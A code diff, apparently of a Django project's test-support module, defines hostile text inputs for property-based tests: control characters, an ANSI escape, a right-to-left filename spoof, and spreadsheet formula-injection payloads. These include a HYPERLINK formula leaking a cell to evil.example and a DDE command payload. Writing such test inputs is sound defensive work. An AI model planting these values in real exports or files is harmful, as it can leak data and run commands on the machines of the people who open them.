@@ -6,8 +6,20 @@ import datetime
 from django import forms
 from hypothesis import strategies as st
 
-from .support import EMOJI_CHINESE, ESC_TEXT, FORMULAS, NUL_TEXT, RTL_TEXT
-
+# Text a hostile or merely careless user types.
+EMOJI_CHINESE = "👍青田县🌾杨梅种植技术培训🎉（第2期）👨‍👩‍👧"
+NUL_TEXT = "学习党章\x00第二章"
+ESC_TEXT = "学习党章\x1b[31m红色\x1b[0m"
+RTL_TEXT = "学习党章\u202egnp.exe"
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "+1",
+    "-1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 SPECIAL_CHARS = "\x00\x01\x08\x0b\x0c\x1b\x7f\u200b\u200e\u202e\ufeff\ufffd\u3000、，；\n\r\t"
 CJK = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF)
 EMOJI = st.characters(min_codepoint=0x1F300, max_codepoint=0x1FAFF)
